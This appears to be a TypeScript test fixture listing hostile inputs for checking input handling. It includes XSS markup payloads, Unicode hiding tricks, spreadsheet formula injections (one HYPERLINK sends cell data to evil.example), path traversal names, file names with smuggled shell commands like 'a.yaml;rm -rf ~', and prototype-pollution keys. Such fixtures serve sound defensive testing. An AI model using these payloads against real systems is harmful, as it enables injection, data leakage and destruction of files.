/** What a text may hold to become something else: markup, script, a formula, a path, another direction. Each tries to set `window.hacked`. */
export const markup = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '"><svg onload=window.hacked=1>',
  '\'"--></style></script><script>window.hacked=1</script>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<a href="javascript:window.hacked=1">a</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/a.css"</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>',
  'javascript:window.hacked=1',
  'data:text/html,<script>window.hacked=1</script>',
  '{{constructor.constructor("window.hacked=1")()}}',
  '${window.hacked=1}',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
] as const;

/** Characters that hide, or turn what stands beside them. */
export const unseen = [
  'a\u202Egpj.exe',
  '\u2066\u2067\u2068unclosed',
  '\u2069\u2069closed',
  'a\u200Bb\u200Cc\u200Dd\u2060e',
  '\uFEFFmark',
  'a\u200F\u061Cb',
  'a\u0000b\u0007c\u001B[31md',
  'ش\u202Dلום',
  'lone \uD800 high',
  'lone \uDFFF low',
  `z${'\u0301'.repeat(400)}`,
] as const;

/** Characters without a shape that older lists of such do not name: a tag beyond the first plane, a format, a letter. */
export const hidden = ['a\u{E0041}b', '\u180E', '\u3164'] as const;

export const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '"=1+1"',
] as const;

/** Names that are no name of a file. */
export const paths = [
  '../../../etc/passwd',
  '..\\..\\windows\\system32\\a.yaml',
  '/etc/passwd',
  'C:\\autoexec.bat',
  'C:a.yaml',
  '\\\\evil.example\\share\\a.yaml',
  'CON',
  'nul.yaml',
  'aux.yaml.',
  'a.yaml/../../b',
  '.',
  '..',
  '.htaccess',
  'a.yaml\u0000.exe',
  'a%2f..%2fb.yaml',
  '$(touch hacked).yaml',
  '`touch hacked`.yaml',
  '-rf.yaml',
  'a\nb.yaml',
  'a.yaml;rm -rf ~',
] as const;

/** Names that mean something to an object. */
export const members = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'] as const;

export const long = 'x'.repeat(20_000);
